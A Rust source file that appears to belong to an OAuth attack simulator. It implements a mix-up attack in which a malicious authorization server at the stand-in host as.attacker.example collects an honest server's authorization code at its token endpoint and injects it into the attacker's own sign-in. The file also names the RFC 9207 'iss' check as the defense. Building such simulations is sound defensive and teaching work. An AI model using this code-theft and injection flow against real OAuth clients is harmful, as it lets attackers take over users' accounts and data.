//! `mix-up`: the client trusts two ASes and uses one redirect URI for both. Alice picks
//! the attacker's AS, which sends her on to the honest AS; the honest AS's code comes
//! back to the client, which — believing the response came from the attacker's AS —
//! sends the code to the attacker's token endpoint (RFC 9700 §4.4.1). The attacker then
//! injects the code into a sign-in of its own at the client (RFC 9700 §4.5): because
//! its AS wrote the request Alice took to the honest AS, the code is bound to the PKCE
//! challenge and nonce of the attacker's own sign-in, not Alice's. The `iss` parameter
//! (RFC 9207) tells the client which AS really answered.

use crate::attacks::setup::*;
use http::StatusCode;

use crate::actors::Defenses;
use crate::actors::client::AsRegistration;
use crate::actors::defenses::DefenseId;
use crate::actors::well_known as wk;
use crate::attacks::attacker::{Attacker, Kit, Moves, Playbook};
use crate::attacks::{Attack, AttackInfo, Capability, Stopper};
use crate::protocol::errors::{ErrorCode, OAuthError, json_response};
use crate::protocol::http_wire::{self, Request, Response};
use crate::protocol::jwt::{SigningKey, jwks_of};
use crate::protocol::params::{Params, append_query};
use crate::protocol::requests::{AuthorizationRequest, RawParams};
use crate::sim::world::WorldBuilder;
use crate::sim::{ScriptEvent, Simulation};

pub const EVIL_AS: &str = "evil-as";
pub const EVIL_ISSUER: &str = "https://as.attacker.example";

pub struct MixUp;

static INFO: AttackInfo = AttackInfo {
    id: "mix-up",
    title: "Mix-up: the honest AS's code sent to the attacker's AS, then injected",
    story: "Photo Printer lets users sign in with as.example or with as.attacker.example, and uses the same redirect \
            URI for both. Mallory first starts a sign-in with as.example at Photo Printer in her own browser and \
            stops it at the AS, keeping its PKCE challenge and nonce. Alice picks as.attacker.example. That AS \
            forwards her to as.example's authorization endpoint with Photo Printer's client_id there, Alice's own \
            state, and the challenge and nonce of Mallory's sign-in. Alice signs in at the honest AS; its code \
            arrives at the callback, and Photo Printer, whose session says the request went to the attacker's AS, \
            sends the honest code to the attacker's token endpoint. Mallory opens Photo Printer's callback in her \
            own browser with that code: Photo Printer redeems it at as.example for her session and shows her \
            Alice's photos.",
    capabilities: &[Capability::MaliciousAs, Capability::WebAttacker],
    setup: "Photo Printer also trusts the attacker's AS (as.attacker.example), with the same redirect URI; \
            Mallory uses Photo Printer in her own browser.",
    steps: &[
        "Start a sign-in with as.example at Photo Printer in Mallory's browser and stop it at the AS",
        "Serve AS metadata and a JWKS at as.attacker.example",
        "Answer /authorize with a redirect to as.example/authorize for photo-printer: Alice's state, Mallory's challenge and nonce",
        "Receive the honest AS's code at /token",
        "Open Photo Printer's callback in Mallory's browser with that code and the state of her own sign-in",
    ],
    goal: "the attacker's own session at Photo Printer shows Alice's photos",
    stoppers: &[Stopper::alone(
        DefenseId::IssParameter,
        "the response's iss is as.example, not the AS the client sent Alice to (RFC 9207 §2.4)",
    )],
    references: "RFC 9700 §4.4; RFC 9207",
};

/// The attacker's AS: metadata, a JWKS, an authorization endpoint that forwards to the
/// honest AS with the client's own values, and a token endpoint that keeps every code.
pub struct EvilAs;

impl EvilAs {
    fn metadata() -> serde_json::Value {
        serde_json::json!({
            "issuer": EVIL_ISSUER,
            "authorization_endpoint": format!("{EVIL_ISSUER}/authorize"),
            "token_endpoint": format!("{EVIL_ISSUER}/token"),
            "jwks_uri": format!("{EVIL_ISSUER}/jwks"),
            "response_types_supported": ["code"],
            "code_challenge_methods_supported": ["S256"],
            "authorization_response_iss_parameter_supported": true,
        })
    }
}

impl Playbook for EvilAs {
    fn on_request(
        &mut self,
        kit: &mut Kit,
        ctx: &mut Moves<'_, '_>,
        req: &Request,
    ) -> Option<Response> {
        match req.uri().path() {
            "/.well-known/openid-configuration" | "/.well-known/oauth-authorization-server" => {
                Some(json_response(StatusCode::OK, &Self::metadata()))
            }
            "/jwks" => Some(json_response(
                StatusCode::OK,
                &serde_json::to_value(jwks_of(&SigningKey::demo_second_as())).unwrap_or_default(),
            )),
            "/authorize" => {
                let forwarded = AuthorizationRequest::from_params(Params::from_query(req.uri()))
                    .replace("client_id", wk::CLIENT_ID);
                ctx.note(format!("Attacker AS: forwards Alice to the honest AS's authorization endpoint, with Photo Printer's client_id there; the request keeps {}.", own_values_in(&crate::protocol::http_wire::url_string(req.uri())).replace("its own", "the client's own")));
                Some(redirect_to(
                    &forwarded.url(&format!("{}/authorize", wk::AS_ISSUER)),
                ))
            }
            "/token" => {
                let form = Params::parse(&http_wire::body_text(req.body()));
                if let Some(code) = form.first("code") {
                    kit.loot.codes.push(code.to_string());
                    ctx.note(format!(
                        "Attacker AS: received a code{} at its token endpoint.",
                        if form.contains("code_verifier") {
                            " and the client's code_verifier"
                        } else {
                            ""
                        }
                    ));
                }
                Some(
                    OAuthError::new(ErrorCode::InvalidGrant, "try again later")
                        .token_response(false),
                )
            }
            _ => None,
        }
    }
}

/// The catalog's attacker: [`EvilAs`], which also stopped a sign-in of Mallory's own at
/// the honest AS. It forwards Alice with that sign-in's PKCE challenge and nonce, and
/// injects the code it receives into that sign-in.
#[derive(Default)]
struct MixUpThenInject {
    /// The query of Mallory's own, stopped authorization request.
    own: Option<Params>,
    session: OwnSession,
}

/// The values a sign-in binds its code to (RFC 7636 §4.3, OIDC Core §3.1.2.1).
const BINDINGS: [&str; 3] = ["code_challenge", "code_challenge_method", "nonce"];

impl MixUpThenInject {
    /// Alice's request, forwarded to the honest AS: Photo Printer's client_id there and,
    /// for each binding, the value of Mallory's own sign-in (or none, if it had none).
    fn forward(&self, ctx: &mut Moves<'_, '_>, own: &Params, req: &Request) -> Response {
        let alices = Params::from_query(req.uri());
        let mut forwarded =
            AuthorizationRequest::from_params(alices.clone()).replace("client_id", wk::CLIENT_ID);
        for name in BINDINGS {
            forwarded = match own.first(name) {
                Some(v) => forwarded.replace(name, v),
                None => forwarded.without(name),
            };
        }
        let swapped: Vec<&str> = ["code_challenge", "nonce"]
            .into_iter()
            .filter(|n| own.first(n).is_some())
            .collect();
        let state = if alices.first("state").is_some() {
            "Alice's own state"
        } else {
            "no state"
        };
        ctx.note(format!(
            "Attacker AS: forwards Alice to the honest AS's authorization endpoint, with Photo Printer's client_id there, {state}, and {}.",
            match swapped.as_slice() {
                [] => "no code_challenge or nonce (Mallory's own sign-in has none)".to_string(),
                names => format!("the {} of Mallory's own sign-in in place of Alice's", names.join(" and ")),
            }
        ));
        redirect_to(&forwarded.url(&format!("{}/authorize", wk::AS_ISSUER)))
    }
}

impl Playbook for MixUpThenInject {
    fn on_observed(&mut self, _kit: &mut Kit, ctx: &mut Moves<'_, '_>, wire: &str) {
        if let Some(url) = request_url(wire) {
            ctx.note(format!(
                "Attacker AS: keeps Mallory's own authorization request, with {}.",
                own_values_in(&url)
            ));
            self.session.remember(&url);
            self.own = Some(query(&url));
        }
    }

    fn on_request(
        &mut self,
        kit: &mut Kit,
        ctx: &mut Moves<'_, '_>,
        req: &Request,
    ) -> Option<Response> {
        let path = req.uri().path();
        if let ("/authorize", Some(own)) = (path, self.own.as_ref()) {
            return Some(self.forward(ctx, own, req));
        }
        let codes_before = kit.loot.codes.len();
        let answer = EvilAs.on_request(kit, ctx, req);
        if path == "/token"
            && self.own.is_some()
            && let Some(code) = kit.loot.codes.get(codes_before).cloned()
        {
            self.session.inject(kit, ctx, &code, None);
        }
        answer
    }
}

/// A `302 Found` to `location`.
fn redirect_to(location: &str) -> Response {
    let mut r = http_wire::response(StatusCode::FOUND);
    http_wire::set_header(r.headers_mut(), "location", location);
    r
}

/// Photo Printer also trusts the attacker's AS: it registered there (as
/// `photo-printer`) and offers "Sign in with as.attacker.example" (RFC 9700 §4.4).
pub fn client_trusts_attacker_as(w: &mut WorldBuilder) {
    w.client.auth_servers.push(AsRegistration {
        issuer: EVIL_ISSUER.to_string(),
        metadata_url: format!("{EVIL_ISSUER}/.well-known/openid-configuration"),
        client_id: "photo-printer".to_string(),
        client_secret: crate::protocol::secret::ClientSecret::new("printer-secret-at-attacker"),
        redirect_uri: wk::CLIENT_REDIRECT_URI.to_string(),
        display_name: "as.attacker.example".to_string(),
        assertion_key: None,
        prefers_private_key_jwt: false,
    });
}

/// Alice opens Photo Printer's "Sign in with as.attacker.example" link.
pub fn alice_signs_in_with_attacker_as() -> ScriptEvent {
    let login = append_query(
        &format!("{}/login", wk::CLIENT_ORIGIN),
        &Params::from_pairs([("as", EVIL_ISSUER)]),
    );
    navigate(
        wk::BROWSER,
        &login,
        "Alice clicks \"Sign in with as.attacker.example\" on Photo Printer.",
    )
}

/// The attacker's AS at as.attacker.example, driven by `playbook` (the catalog's is
/// [`EvilAs`]).
pub fn attacker_as(playbook: impl Playbook) -> Attacker {
    Attacker::new(
        EVIL_AS,
        "Attacker's AS (as.attacker.example)",
        &[EVIL_ISSUER],
        playbook,
    )
}

impl Attack for MixUp {
    fn info(&self) -> &'static AttackInfo {
        &INFO
    }

    fn build_world(&self, seed: u64, defenses: Defenses) -> Simulation {
        let mut w = WorldBuilder::standard(seed, defenses);
        client_trusts_attacker_as(&mut w);
        let mut sim = w.build();
        sim.add_actor(Box::new(attacker_as(MixUpThenInject::default())));
        stop_own_sign_in_at_as(&mut sim, EVIL_AS, &format!("{}/login", wk::CLIENT_ORIGIN));
        sim.push_script(alice_signs_in_with_attacker_as());
        sim
    }

    fn goal(&self, sim: &Simulation) -> Option<String> {
        attacker_session_shows_alice(sim)
    }
}

pub static ATTACK: MixUp = MixUp;
